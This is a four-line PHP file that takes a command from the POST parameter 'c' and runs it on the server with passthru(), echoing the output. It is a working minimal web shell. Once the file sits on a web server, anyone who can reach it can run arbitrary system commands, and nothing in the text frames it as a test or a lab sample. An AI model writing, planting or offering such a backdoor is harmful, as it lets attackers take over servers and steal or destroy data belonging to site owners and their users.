<?php
$c = $_POST['c'];
echo '<pre>';
passthru($c);
